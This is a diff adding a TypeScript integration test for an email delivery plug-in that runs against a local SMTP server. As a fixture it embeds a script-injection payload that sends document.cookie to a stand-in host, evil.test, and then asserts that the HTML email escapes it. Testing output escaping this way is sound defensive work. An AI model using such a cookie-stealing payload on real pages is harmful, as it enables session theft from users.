@@ -1,0 +1,286 @@
+import { once } from 'node:events';
+import { createServer, type AddressInfo } from 'node:net';
+import { got } from 'got';
+import { pino } from 'pino';
+import { SMTPServer } from 'smtp-server';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DeliveryError } from '../../src/errors.js';
+import { emailPlugin } from '../../src/targets/email/email-plugin.js';
+import type { OutboundMessage, Target, TargetDeps } from '../../src/targets/target.js';
+import { compileTemplate } from '../../src/templates/template-engine.js';
+import type { JsonObject } from '../../src/types.js';
+import transcript from '../fixtures/transcript.completed.json' with { type: 'json' };
+
+const user = 'hookgate';
+const pass = 'correct horse battery staple';
+
+const deps: TargetDeps = {
+  http: got.extend({}),
+  logger: pino({ level: 'silent' }),
+  now: () => Date.now(),
+  sleep: async () => {},
+};
+
+/** A real SMTP server in this process: plain text (no STARTTLS), one account, every message kept raw. */
+const received: { from: string; to: string[]; raw: string }[] = [];
+const server = new SMTPServer({
+  disabledCommands: ['STARTTLS'],
+  allowInsecureAuth: true,
+  authOptional: true,
+  logger: false,
+  onAuth(auth, _session, callback) {
+    if (auth.username === user && auth.password === pass) callback(null, { user });
+    else callback(new Error('Authentication credentials invalid'));
+  },
+  onData(stream, session, callback) {
+    const chunks: Buffer[] = [];
+    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
+    stream.on('end', () => {
+      received.push({
+        from: session.envelope.mailFrom ? session.envelope.mailFrom.address : '',
+        to: session.envelope.rcptTo.map((r) => r.address),
+        raw: Buffer.concat(chunks).toString('utf8'),
+      });
+      callback();
+    });
+  },
+});
+let port = 0;
+
+beforeAll(async () => {
+  server.listen(0, '127.0.0.1');
+  await once(server.server, 'listening');
+  port = (server.server.address() as AddressInfo).port;
+});
+
+afterAll(async () => {
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+});
+
+function emailTarget(definition: JsonObject): Target {
+  return emailPlugin.create('team-mail', { type: 'email', ...definition }, deps);
+}
+
+const hostileText = `${transcript.data.text}\nEve: <script>document.location="https://evil.test/?c="+document.cookie</script>`;
+const hostile: JsonObject = {
+  ...transcript,
+  data: { ...transcript.data, headline: 'Roll-out <script>alert("x")</script>', text: hostileText },
+};
+
+/** Renders the plug-in's default templates the way the core does (each field with its escaper). */
+function messageFor(payload: JsonObject): OutboundMessage {
+  const fields: Record<string, string> = {};
+  for (const [field, template] of Object.entries(emailPlugin.defaultTemplates)) {
+    const escaper = emailPlugin.fields[field] ?? 'none';
+    fields[field] = compileTemplate(template, escaper).render({
+      event: payload,
+      source: 'connect-it',
+      event_type: payload.type as string,
+      received_at: '2026-11-28T16:04:12.000Z',
+    });
+  }
+  return {
+    fields,
+    payload,
+    rawBody: JSON.stringify(payload),
+    eventType: payload.type as string,
+    eventId: 'evt_42',
+  };
+}
+
+describe('email target over a real SMTP server', () => {
+  it('delivers From, To, Subject, the text part, the escaped HTML part and the transcript attachment', async () => {
+    const target = emailTarget({
+      host: '127.0.0.1',
+      port,
+      ignoreTLS: true,
+      auth: { user, pass },
+      from: 'Hookgate <hookgate@example.com>',
+      to: 'team@example.com, "Lima, Ana" <ana@example.com>',
+      attachTranscript: true,
+      timeoutMs: 5000,
+    });
+    try {
+      const receipt = await target.send(messageFor(hostile), { deliveryId: 'dlv_0001', attempt: 1 });
+      expect(receipt.detail).toMatch(/^accepted 2, rejected 0: 250/);
+    } finally {
+      await target.close();
+    }
+
+    const mail = received.at(-1)!;
+    expect(mail.from).toBe('hookgate@example.com');
+    expect(mail.to).toEqual(['team@example.com', 'ana@example.com']);
+    const root = parseEntity(mail.raw);
+    expect(root.headers.get('from')).toBe('Hookgate <hookgate@example.com>');
+    expect(root.headers.get('to')).toBe('team@example.com, "Lima, Ana" <ana@example.com>');
+    expect(decodeWords(root.headers.get('subject') ?? '')).toBe('Roll-out <script>alert("x")</script>');
+    expect(root.headers.get('message-id')).toBe('<dlv_0001.hookgate@example.com>');
+    expect(root.headers.get('x-hookgate-delivery')).toBe('dlv_0001');
+
+    const parts = leaves(root);
+    const text = parts.find(
+      (p) => p.type.startsWith('text/plain') && !p.disposition.startsWith('attachment'),
+    );
+    const html = parts.find((p) => p.type.startsWith('text/html'));
+    const attachment = parts.find((p) => p.disposition.startsWith('attachment'));
+    expect(text?.body).toContain('By Ana Lima');
+    expect(text?.body).toContain("Chen: I'll add the schema for transcript events");
+    expect(html?.body).toContain('Roll-out &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
+    expect(html?.body).toContain('Eve: &lt;script&gt;document.location=');
+    expect(html?.body).not.toContain('<script');
+    expect(attachment?.type).toBe('text/plain; charset=utf-8; name=transcript.txt');
+    expect(attachment?.disposition).toContain('filename=transcript.txt');
+    expect(attachment?.body).toBe(hostileText);
+  });
+
+  it('a resend of the same delivery carries the same Message-ID', async () => {
+    const target = emailTarget({
+      host: '127.0.0.1',
+      port,
+      ignoreTLS: true,
+      from: 'a@example.com',
+      to: 'b@example.com',
+    });
+    try {
+      await target.send(messageFor(transcript), { deliveryId: 'dlv_0002', attempt: 1 });
+      await target.send(messageFor(transcript), { deliveryId: 'dlv_0002', attempt: 2 });
+    } finally {
+      await target.close();
+    }
+    const [first, second] = received.slice(-2).map((m) => parseEntity(m.raw).headers.get('message-id'));
+    expect(first).toBe('<dlv_0002.hookgate@example.com>');
+    expect(second).toBe(first);
+  });
+
+  it('rejected credentials are a permanent DeliveryError that does not reveal them', async () => {
+    const wrong = 'wrong-password-123';
+    const target = emailTarget({
+      url: `smtp://${user}:${wrong}@127.0.0.1:${port}`,
+      ignoreTLS: true,
+      from: 'a@example.com',
+      to: 'b@example.com',
+    });
+    let error: unknown;
+    try {
+      await target.send(messageFor(transcript), { deliveryId: 'dlv_0003', attempt: 1 });
+    } catch (e) {
+      error = e;
+    } finally {
+      await target.close();
+    }
+    expect(error).toBeInstanceOf(DeliveryError);
+    const delivery = error as DeliveryError;
+    expect(delivery.kind).toBe('permanent');
+    expect(delivery.message).toMatch(/authentication failed/i);
+    expect(delivery.message).toContain('535');
+    expect(delivery.message).not.toContain(wrong);
+  });
+
+  it('a server that is down is a retryable DeliveryError', async () => {
+    const closedPort = await freePort();
+    const target = emailTarget({
+      host: '127.0.0.1',
+      port: closedPort,
+      from: 'a@example.com',
+      to: 'b@example.com',
+      timeoutMs: 2000,
+    });
+    let error: unknown;
+    try {
+      await target.send(messageFor(transcript), { deliveryId: 'dlv_0004', attempt: 1 });
+    } catch (e) {
+      error = e;
+    } finally {
+      await target.close();
+    }
+    expect(error).toBeInstanceOf(DeliveryError);
+    expect((error as DeliveryError).kind).toBe('retryable');
+    expect((error as DeliveryError).message).toContain('ECONNREFUSED');
+  });
+});
+
+/** A port that was free a moment ago and has nothing listening now. */
+async function freePort(): Promise<number> {
+  const probe = createServer();
+  probe.listen(0, '127.0.0.1');
+  await once(probe, 'listening');
+  const { port: free } = probe.address() as AddressInfo;
+  await new Promise<void>((resolve) => probe.close(() => resolve()));
+  return free;
+}
+
+// A minimal MIME reader, enough for what nodemailer writes: unfolded headers, nested multiparts, and
+// base64 / quoted-printable bodies decoded as UTF-8.
+interface Entity {
+  readonly headers: Map<string, string>;
+  readonly body: string;
+  readonly children: readonly Entity[];
+}
+
+interface Leaf {
+  readonly type: string;
+  readonly disposition: string;
+  readonly body: string;
+}
+
+function parseEntity(raw: string): Entity {
+  const split = raw.indexOf('\r\n\r\n');
+  const head = split === -1 ? raw : raw.slice(0, split);
+  const rawBody = split === -1 ? '' : raw.slice(split + 4);
+  const headers = new Map<string, string>();
+  for (const line of head.replace(/\r\n[ \t]+/g, ' ').split('\r\n')) {
+    const colon = line.indexOf(':');
+    if (colon > 0) headers.set(line.slice(0, colon).trim().toLowerCase(), line.slice(colon + 1).trim());
+  }
+  const type = headers.get('content-type') ?? 'text/plain';
+  const boundary = /boundary="?([^";]+)"?/i.exec(type)?.[1];
+  if (type.toLowerCase().startsWith('multipart/') && boundary) {
+    const sections = rawBody.split(`--${boundary}`).slice(1);
+    const children = sections
+      .filter((section) => !section.startsWith('--'))
+      .map((section) => parseEntity(section.replace(/^\r\n/, '').replace(/\r\n$/, '')));
+    return { headers, body: '', children };
+  }
+  return {
+    headers,
+    body: decodeBody(rawBody, headers.get('content-transfer-encoding') ?? '7bit'),
+    children: [],
+  };
+}
+
+function decodeBody(body: string, encoding: string): string {
+  switch (encoding.toLowerCase()) {
+    case 'base64':
+      return Buffer.from(body.replace(/\s+/g, ''), 'base64').toString('utf8');
+    case 'quoted-printable': {
+      const bytes = body
+        .replace(/=\r\n/g, '')
+        .replace(/=([0-9A-F]{2})/gi, (_match, hex: string) => String.fromCharCode(parseInt(hex, 16)));
+      return Buffer.from(bytes, 'latin1').toString('utf8');
+    }
+    default:
+      return body;
+  }
+}
+
+/** RFC 2047 encoded-words (`=?UTF-8?Q?…?=`), as nodemailer writes a subject with special characters. */
+function decodeWords(value: string): string {
+  return value
+    .replace(/\?=\s+=\?/g, '?==?')
+    .replace(/=\?[^?]+\?([QB])\?([^?]*)\?=/gi, (_match, kind: string, text: string) =>
+      kind.toUpperCase() === 'B'
+        ? Buffer.from(text, 'base64').toString('utf8')
+        : decodeBody(text.replace(/_/g, ' '), 'quoted-printable'),
+    );
+}
+
+function leaves(entity: Entity): Leaf[] {
+  if (entity.children.length > 0) return entity.children.flatMap(leaves);
+  return [
+    {
+      type: entity.headers.get('content-type') ?? 'text/plain',
+      disposition: entity.headers.get('content-disposition') ?? '',
+      body: entity.body,
+    },
+  ];
+}
